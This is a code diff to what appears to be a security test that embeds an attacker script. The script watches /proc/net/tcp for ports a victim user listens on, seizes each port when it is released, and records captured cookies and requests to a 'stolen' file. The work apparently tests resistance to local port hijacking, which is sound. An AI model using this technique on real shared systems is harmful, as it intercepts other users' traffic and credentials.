@@ -26,7 +26,6 @@ http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler)
 ATTACKER = """\
 import os, socket, threading, time
 
-PORTS = range(20_000, 32_000)
 own = int(os.environ["PORT"])
 stolen = open(os.path.join(os.environ["HOME"], "stolen"), "ab", buffering=0)
 taken, wanted = {}, set()
@@ -71,8 +70,9 @@ def look():
         for line in list(file)[1:]:
             fields = line.split()
             port = int(fields[1].rpartition(":")[2], 16)
-            if fields[3] == "0A" and port in PORTS and port != own and port not in taken:
+            if fields[3] == "0A" and fields[7] == os.environ["VICTIM_UID"] and port not in wanted:
                 wanted.add(port)
+                stolen.write(b"seen\\n")
 
 
 listen(own, b"attacker")
@@ -87,5 +87,5 @@ while True:
             stolen.write(b"port\\n")
     time.sleep(0.0002)
 """
-"""Takes each port on which somebody else has listened as soon as it is free, and writes a line to `stolen` in its home
-for each port, and for each connection what it got: `cookie`, `request` or `nothing`."""
+"""Takes each port on which the user VICTIM_UID listens as soon as it is free. Writes a line to `stolen` in its home for
+each port, `seen` and then `port`, and for each connection what it got: `cookie`, `request` or `nothing`."""
